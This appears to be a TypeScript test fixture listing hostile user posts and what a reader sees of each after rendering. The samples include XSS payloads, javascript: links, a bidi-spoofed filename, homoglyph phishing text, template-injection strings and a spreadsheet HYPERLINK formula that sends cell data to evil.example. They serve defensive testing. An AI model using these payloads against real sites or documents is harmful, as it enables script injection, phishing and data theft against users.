/** Posts that try to harm who reads them, by how. `shown`: what a reader sees of it. */
export const HOSTILE_POSTS: readonly { kind: string; text: string; shown: string }[] = [
  {
    kind: 'scripts',
    text: `<script>globalThis.ran=1</script><img src="https://evil.example/x" onerror="globalThis.ran=1"><svg onload=alert(1)>`,
    shown: '<script>globalThis.ran=1</script><img src="https://evil.example/x"',
  },
  {
    kind: 'markup that ends where it stands',
    text: `late"></b></a><iframe src="https://evil.example/"></iframe><style>*{display:none}</style><base href="https://evil.example/">' onmouseover='globalThis.ran=1`,
    shown: 'late"></b></a><iframe src="https://evil.example/">',
  },
  {
    kind: 'links that run',
    text: '[refund](javascript:globalThis.ran=1) javascript:globalThis.ran=1 data:text/html,<script>alert(1)</script>',
    shown: '[refund](javascript:globalThis.ran=1)',
  },
  {
    kind: 'turned directions',
    text: 'pay \u202egnp.exe \u2067\u2066\u202d never closed',
    shown: 'pay gnp.exe  never closed',
  },
  { kind: 'right to left', text: 'שלום acme עצרה (12)', shown: 'שלום acme עצרה (12)' },
  { kind: 'homoglyphs', text: 'аcmе says sign in at раураl.example', shown: 'аcmе says sign in at раураl.example' },
  {
    kind: 'marks piled up',
    text: `Z${'\u0300\u0489'.repeat(50)}algo broke the checkout`,
    shown: 'algo broke the checkout',
  },
  { kind: 'an endless word', text: `down${'x'.repeat(9_996)}`, shown: `down${'x'.repeat(40)}` },
  { kind: 'endless words', text: 'broken again '.repeat(770), shown: 'broken again broken again' },
  {
    kind: 'controls',
    text: 'bell\u0007 \u001b[31mred\u001b[0m \u009dtitle\u009c\u0085 late',
    shown: 'bell [31mred[0m title late',
  },
  {
    kind: 'formulas',
    text: '=HYPERLINK("https://evil.example/?"&A1,"refund")',
    shown: '=HYPERLINK("https://evil.example/?"&A1,"refund")',
  },
  {
    kind: 'templates',
    text: '${globalThis.ran=1} {{constructor.constructor("globalThis.ran=1")()}} <%= 1 %>',
    shown: '${globalThis.ran=1} {{constructor',
  },
  { kind: 'half a character', text: '\ud83d of 💥 is late', shown: 'of 💥 is late' },
]
